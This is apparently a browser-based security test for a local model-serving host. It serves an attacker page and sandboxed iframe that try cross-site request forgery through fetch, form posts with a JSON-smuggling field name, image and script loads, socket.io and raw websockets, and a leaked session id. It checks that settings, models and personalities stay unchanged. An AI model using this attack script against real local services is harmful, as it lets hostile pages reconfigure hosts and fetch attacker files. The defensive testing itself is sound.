/**
 * Class 12 in a real browser (issue 11 §1): headless Chromium opens an attacker's page from a foreign origin
 * (`http://127.0.0.2:<port>`, not in the default `allowed_origins`) and, inside it, a sandboxed iframe whose
 * requests carry `Origin: null`. Both try every way a page has to reach the host: fetch with and without a
 * preflight, form posts of every encoding, `<img>` and `<script>` loads, socket.io over polling and websocket,
 * a raw websocket, and posts into a session whose id leaked. Each tries every action that changes state:
 * `POST /update_setting`, `install_model`, `set_personality_settings`, `add_personality`, `select_model`,
 * `select_binding`.
 *
 * The assertions are on the host's state, not on what the page saw: the config, the loaded model, the mounted
 * personalities and their settings, the models folder and the download server (an install would fetch from it),
 * and the socket.io sessions the host accepted. The control runs the same page from an allowed origin
 * (`http://127.0.0.1:<port>`) and every action does change the host: the test would see a breach.
 */
import { expect } from 'chai';
import { copyFile, mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { createRequire } from 'node:module';
import type { Frame } from 'playwright-core';
import { modelsPathOf } from '../../../core/config.js';
import { TINY_MODEL_NAME } from '../../../core/host.js';
import { CHROMIUM_INSTALL_TIMEOUT_MS, launchBrowser, type TestBrowser } from '../../helpers/browser.js';
import { request, startTestHost, type TestHost, type TestSocket } from '../../helpers/host.js';

/** socket.io's browser client (the package's exports hide `dist/`: found next to its package.json). */
const SOCKET_IO_CLIENT = join(dirname(createRequire(import.meta.url).resolve('socket.io-client/package.json')), 'dist', 'socket.io.min.js');
const OTHER_MODEL = 'other.gguf';
const MOUNTED = 'english/sec/keeper';
const NEWBIE = 'english/sec/newbie';

/** What the page runs: every way to reach the host, every action; a log of what the page saw, for diagnostics. */
const ATTACK_JS = String.raw`
window.attack = async ({ host, ws, evil, sid, mountedId, model }) => {
  const log = [];
  const note = (what, outcome) => log.push(what + ': ' + outcome);
  const within = (promise, ms = 5000) => Promise.race([promise, new Promise((r) => setTimeout(() => r('no answer'), ms))]);
  const events = [
    ['install_model', { url: evil + '/model.gguf', filename: 'stolen.gguf' }],
    ['set_personality_settings', { id: mountedId, settings: { level: 9 } }],
    ['add_personality', { path: '${NEWBIE}' }],
    ['select_model', { model_name: model }],
    ['select_binding', { binding_name: 'decoy' }],
  ];
  const body = JSON.stringify({ setting_name: 'temperature', setting_value: 0.123 });
  const url = host + '/update_setting';

  // fetch: with a preflight (JSON), without one (text/plain, and no-cors of every simple type).
  const fetches = [
    ['json', { headers: { 'content-type': 'application/json' }, body }],
    ['text/plain', { headers: { 'content-type': 'text/plain' }, body }],
    ['no-cors text/plain', { mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body }],
    ['no-cors form', { mode: 'no-cors', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'setting_name=temperature&setting_value=0.123' }],
    ['no-cors multipart', { mode: 'no-cors', body: (() => { const f = new FormData(); f.append('setting_name', 'temperature'); f.append('setting_value', '0.123'); return f; })() }],
  ];
  for (const [what, init] of fetches) {
    try {
      const res = await fetch(url, { method: 'POST', ...init });
      note('fetch ' + what, res.type === 'opaque' ? 'opaque' : res.status);
    } catch (e) {
      note('fetch ' + what, 'failed ' + e.name);
    }
  }

  // Form posts of every encoding (text/plain with the JSON trick), into a frame.
  for (const enctype of ['application/x-www-form-urlencoded', 'text/plain', 'multipart/form-data']) {
    const frame = document.createElement('iframe');
    frame.name = 'sink-' + enctype.replace(/\W/g, '');
    document.body.append(frame);
    const form = document.createElement('form');
    Object.assign(form, { method: 'POST', action: url, enctype, target: frame.name });
    const input = document.createElement('input');
    input.name = '{"setting_name":"temperature","setting_value":0.123,"x":"';
    input.value = '"}';
    form.append(input);
    document.body.append(form);
    const loaded = new Promise((r) => frame.addEventListener('load', () => r('loaded'), { once: true }));
    try {
      form.submit();
      note('form ' + enctype, await within(loaded));
    } catch (e) {
      note('form ' + enctype, 'failed ' + e.name);
    }
  }

  // Subresources: no Origin, only Sec-Fetch-Site says where they come from.
  for (const target of [url + '?setting_name=temperature&setting_value=0.123', host + '/socket.io/?EIO=4&transport=polling']) {
    for (const tag of ['img', 'script']) {
      const el = document.createElement(tag);
      const done = new Promise((r) => { el.onload = () => r('loaded'); el.onerror = () => r('error'); });
      el.src = target;
      document.body.append(el);
      note(tag + ' ' + target.slice(host.length), await within(done));
    }
  }

  // socket.io over polling and over websocket; if a session ever opened, every action with its reply.
  for (const transports of [['polling'], ['websocket']]) {
    const socket = io(host, { transports, reconnection: false, timeout: 5000 });
    const outcome = await within(new Promise((r) => {
      socket.on('connect', () => r('connected'));
      socket.on('connect_error', (e) => r('refused: ' + e.message));
    }), 8000);
    note('socket.io ' + transports[0], outcome);
    if (outcome === 'connected') {
      for (const [event, payload] of events) {
        try { note('  ' + event, JSON.stringify(await socket.timeout(10000).emitWithAck(event, payload)).slice(0, 200)); } catch (e) { note('  ' + event, 'no reply'); }
      }
    }
    socket.close();
  }

  // A raw websocket: the engine.io handshake, the namespace, then the actions.
  note('websocket', await within(new Promise((r) => {
    const sock = new WebSocket(ws + '/socket.io/?EIO=4&transport=websocket');
    sock.onmessage = (m) => {
      if (String(m.data).startsWith('0')) sock.send('40');
      else if (String(m.data).startsWith('40')) { events.forEach(([e, p], i) => sock.send('42' + i + JSON.stringify([e, p]))); r('opened, sent'); }
    };
    sock.onerror = () => r('refused');
    sock.onclose = () => r('closed');
  })));

  // A session id that leaked (the page cannot open one): posts into it, as no-cors text/plain.
  if (sid) {
    for (const [event, payload] of events) {
      try {
        const res = await fetch(host + '/socket.io/?EIO=4&transport=polling&sid=' + sid, { method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain;charset=UTF-8' }, body: '42' + JSON.stringify([event, payload]) });
        note('leaked sid ' + event, res.type);
      } catch (e) {
        note('leaked sid ' + event, 'failed ' + e.name);
      }
    }
  }
  return log;
};
`;

/** The attacker's site: its page (with a sandboxed iframe), the script, socket.io's client, and a "model" to download. */
function attackerSite(): { server: Server; downloads: string[] } {
  const downloads: string[] = [];
  const server = createServer(async (req, res) => {
    const origin = `http://${req.headers.host}`;
    if (req.url === '/') {
      const frame = `<!doctype html><script src="${origin}/socket.io.js"></script><script src="${origin}/attack.js"></script><p>framed</p>`;
      res.writeHead(200, { 'content-type': 'text/html' });
      res.end(`<!doctype html><title>attacker</title><script src="/socket.io.js"></script><script src="/attack.js"></script>
<iframe sandbox="allow-scripts allow-forms" srcdoc="${frame.replace(/&/g, '&amp;').replace(/"/g, '&quot;')}"></iframe>`);
    } else if (req.url === '/attack.js') {
      res.writeHead(200, { 'content-type': 'text/javascript', 'access-control-allow-origin': '*' });
      res.end(ATTACK_JS);
    } else if (req.url === '/socket.io.js') {
      res.writeHead(200, { 'content-type': 'text/javascript', 'access-control-allow-origin': '*' });
      res.end(await readFile(SOCKET_IO_CLIENT));
    } else if (req.url === '/favicon.ico') {
      res.writeHead(404).end();
    } else {
      // Anything else is a download the host was made to start.
      downloads.push(req.url ?? '');
      res.writeHead(200, { 'content-type': 'application/octet-stream', 'content-length': '4' });
      res.end('GGUF');
    }
  });
  return { server, downloads };
}

function listen(server: Server, host: string): Promise<string> {
  return new Promise((resolve, reject) => {
    server.once('error', reject);
    server.listen(0, host, () => resolve(`http://${host}:${(server.address() as AddressInfo).port}`));
  });
}

/** The host's state that a page must not be able to change. */
interface HostState {
  temperature: number;
  binding: string | null;
  model: string | null;
  mounted: string[];
  level: unknown;
  modelFiles: string[];
}

describe('security 12: foreign web pages in a real browser', function () {
  this.timeout(120_000);
  let host: TestHost;
  let browser: TestBrowser;
  let zoo: string;
  let bindings: string;
  let site: ReturnType<typeof attackerSite>;
  let foreign: string;
  let allowed: string;
  let observer: TestSocket;
  let mountedId: number;
  /** Origins of every socket.io session the host accepted. */
  const sessions: Array<string | undefined> = [];

  before(async function () {
    this.timeout(CHROMIUM_INSTALL_TIMEOUT_MS);
    zoo = await mkdtemp(join(tmpdir(), 'lh-browser-zoo-'));
    const keeper = join(zoo, ...MOUNTED.split('/'));
    await mkdir(join(keeper, 'scripts'), { recursive: true });
    await writeFile(join(keeper, 'config.yaml'), 'name: keeper\nauthor: security-suite\nversion: 1.0.0\npersonality_conditioning: "test"\n');
    await writeFile(
      join(keeper, 'scripts', 'processor.ts'),
      `export default { settings: { level: { type: 'int', value: 1, min: 0, max: 10 } }, async runWorkflow() { return 'x'; } };\n`,
    );
    const newbie = join(zoo, ...NEWBIE.split('/'));
    await mkdir(newbie, { recursive: true });
    await writeFile(join(newbie, 'config.yaml'), 'name: newbie\nauthor: security-suite\nversion: 1.0.0\npersonality_conditioning: "test"\n');
    // A second binding the page would switch to.
    bindings = await mkdtemp(join(tmpdir(), 'lh-browser-bindings-'));
    await mkdir(join(bindings, 'decoy'));
    await writeFile(join(bindings, 'decoy', 'binding_card.yaml'), 'name: decoy\nauthor: security-suite\nversion: 0.1.0\nhost_api: "^1.0.0"\ndescription: a decoy\n');
    await writeFile(join(bindings, 'decoy', 'models.yaml'), '[]\n');
    await writeFile(join(bindings, 'decoy', 'index.ts'), `import { defineBinding } from 'lollms-host/plugin-api';\nexport default defineBinding({ async listModels() { return []; }, async loadModel() { throw new Error('no models'); } });\n`);

    site = attackerSite();
    foreign = await listen(site.server, '127.0.0.2');
    const allowedServer = createServer((req, res) => site.server.emit('request', req, res));
    allowed = await listen(allowedServer, '127.0.0.1');
    site.server.on('close', () => allowedServer.close());

    // Downloads from the attacker's address are allowed, so that an install that got through would show.
    host = await startTestHost({ config: { personalities_paths: [zoo], personalities: [MOUNTED], bindings_paths: [bindings], install_allowed_hosts: ['127.0.0.2'] } });
    const models = join(modelsPathOf(host.host.config.values, host.dataDir), 'llama_cpp');
    await copyFile(join(models, TINY_MODEL_NAME), join(models, OTHER_MODEL));
    observer = await host.connect();
    mountedId = host.host.personalities.mountedPaths().indexOf(MOUNTED);
    expect(mountedId).to.be.at.least(0);
    host.host.io.on('connection', (socket) => sessions.push(socket.handshake.headers.origin));
    browser = await launchBrowser();
  });
  after(async () => {
    await browser?.close();
    await host?.stop();
    await new Promise<void>((resolve) => (site?.server ? site.server.close(() => resolve()) : resolve()));
    for (const dir of [zoo, bindings]) if (dir) await rm(dir, { recursive: true, force: true });
  });

  async function state(): Promise<HostState> {
    const settings = (await request(observer, 'get_personality_settings', { id: mountedId }, 'personality_settings')) as { settings?: Record<string, unknown> };
    const models = join(modelsPathOf(host.host.config.values, host.dataDir), 'llama_cpp');
    return {
      temperature: host.host.config.values.temperature,
      binding: host.host.config.values.binding_name,
      model: host.host.bindings.model?.name ?? null,
      mounted: host.host.personalities.mountedPaths(),
      level: settings.settings?.['level'],
      modelFiles: (await readdir(models)).sort(),
    };
  }

  /** A session opened by a local tool (no Origin), whose id the page is then given. */
  async function leakedSid(): Promise<string> {
    const open = await fetch(`${host.url}/socket.io/?EIO=4&transport=polling`);
    const sid = (JSON.parse((await open.text()).slice(1)) as { sid: string }).sid;
    const connect = await fetch(`${host.url}/socket.io/?EIO=4&transport=polling&sid=${sid}`, { method: 'POST', headers: { 'content-type': 'text/plain;charset=UTF-8' }, body: '40' });
    expect(await connect.text()).to.equal('ok');
    return sid;
  }

  /** Open the attacker's page at `origin` and run the attack in the page and in its sandboxed iframe. */
  async function attackFrom(origin: string): Promise<{ page: string[]; frame: string[] }> {
    const watched = await browser.open(`${origin}/`);
    try {
      const args = { host: host.url, ws: host.url.replace(/^http/, 'ws'), evil: foreign, sid: await leakedSid(), mountedId, model: OTHER_MODEL };
      const run = (target: Frame) => target.evaluate((a) => (window as unknown as { attack(a: unknown): Promise<string[]> }).attack(a), args);
      const page = await run(watched.page.mainFrame());
      const sandboxed = watched.page.frames().find((f) => f !== watched.page.mainFrame() && f.url() === 'about:srcdoc');
      if (!sandboxed) throw new Error('the sandboxed iframe did not load');
      // The iframe's own origin is opaque: its requests carry Origin: null.
      expect(await sandboxed.evaluate(() => self.origin)).to.equal('null');
      const frame = await run(sandboxed);
      return { page, frame };
    } finally {
      await watched.close();
    }
  }

  it('a page of a foreign origin and its sandboxed iframe (Origin null) change nothing, by any means', async () => {
    const before = await state();
    expect(before).to.include({ binding: 'llama_cpp', model: TINY_MODEL_NAME, level: 1 });
    expect(before.mounted).to.deep.equal([MOUNTED]);
    const seen = await attackFrom(foreign);
    const after = await state();
    expect(after, `what the page saw:\n${seen.page.join('\n')}\nand the iframe:\n${seen.frame.join('\n')}`).to.deep.equal(before);
    expect(site.downloads, 'the host downloaded from the attacker').to.deep.equal([]);
    // (The leaked session was opened by a local tool, without an Origin; a page's requests always carry one.)
    expect(sessions.filter((o) => o !== undefined), 'socket.io sessions the host accepted from the page').to.deep.equal([]);
    // What the page saw agrees: no session, no readable answer.
    for (const line of [...seen.page, ...seen.frame]) expect(line).not.to.match(/: connected|opened, sent/);
    if (process.env['LH_TEST_VERBOSE']) console.log([...seen.page, '-- iframe:', ...seen.frame].join('\n'));
  });

  it('the control: the same page from an allowed origin does change the host (the test sees a breach)', async () => {
    const seen = await attackFrom(allowed);
    const after = await state();
    const log = `what the page saw:\n${seen.page.join('\n')}`;
    expect(after.temperature, log).to.equal(0.123);
    expect(after.mounted, log).to.include(NEWBIE);
    expect(after.level, log).to.equal(9);
    expect(site.downloads, log).to.include('/model.gguf');
    expect(after.binding, log).to.equal('decoy');
    expect(sessions.filter((o) => o === allowed).length, log).to.be.at.least(2);
  });
});
